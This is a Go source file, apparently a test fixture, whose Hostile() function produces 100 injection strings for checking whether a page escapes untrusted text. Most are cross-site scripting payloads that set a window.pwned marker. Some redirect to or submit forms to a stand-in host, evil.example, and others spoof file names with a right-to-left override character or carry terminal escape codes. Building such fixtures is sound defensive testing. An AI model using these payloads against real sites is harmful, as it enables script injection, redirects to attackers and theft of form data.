// Copyright 2026 The rehearse Authors. SPDX-License-Identifier: Apache-2.0

package samplerun

import "fmt"

// Hostile is a hundred texts that would act in a page which took them for its
// own. Each that runs a script sets window.pwned.
func Hostile() []string {
	shapes := []string{
		"<script>window.pwned=%d</script>", "</script><script>window.pwned=%d</script>", "<img src=x onerror=window.pwned=%d>",
		"\"><svg onload=window.pwned=%d>", "' onmouseover='window.pwned=%d", "<iframe srcdoc='<script>parent.pwned=%d</script>'></iframe>",
		"javascript:window.pwned=%d", "<a href=\"javascript:window.pwned=%d\">a</a>", "--><script>window.pwned=%d</script><!--",
		"]]><script>window.pwned=%d</script>", "<style>body{display:none}</style>%d", "</style></title></textarea><b>%d", "{{.Title}} ${window.pwned=%d}",
		"<base href=http://evil.example/%d>", "<meta http-equiv=refresh content='0;url=http://evil.example/%d'>", "<form action=http://evil.example/%d><input name=a>",
		"<link rel=stylesheet href=http://evil.example/%d.css>", "<details open ontoggle=window.pwned=%d>", "\u202Egnp.exe\u2066 %d", "\x1b[31mred\x1b[0m \x00 %d",
	}
	var out []string
	for i := range 100 {
		out = append(out, fmt.Sprintf(shapes[i%len(shapes)], i))
	}
	return out
}
